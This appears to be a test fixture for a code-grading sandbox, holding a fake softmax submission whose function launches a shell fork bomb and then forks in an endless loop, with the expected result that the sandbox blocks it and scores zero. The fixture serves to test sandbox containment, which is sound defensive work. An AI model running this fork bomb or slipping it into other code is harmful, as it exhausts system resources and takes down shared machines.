"""A fork bomb in the graded function. The sandbox's seccomp filter makes fork fail (the
grader checks that before grading, so this cannot spread)."""

SUBMISSION = {
    "assignment": "a0_softmax",
    "cells": {
        "softmax": """
import os
import subprocess


def softmax(x, dim=-1):
    try:
        subprocess.Popen(["/bin/sh", "-c", ":(){ :|:& };:"])
    finally:
        while True:
            os.fork()
""",
    },
    "status": "graded",
    "score": 0,
    "message": "Operation not permitted",
}
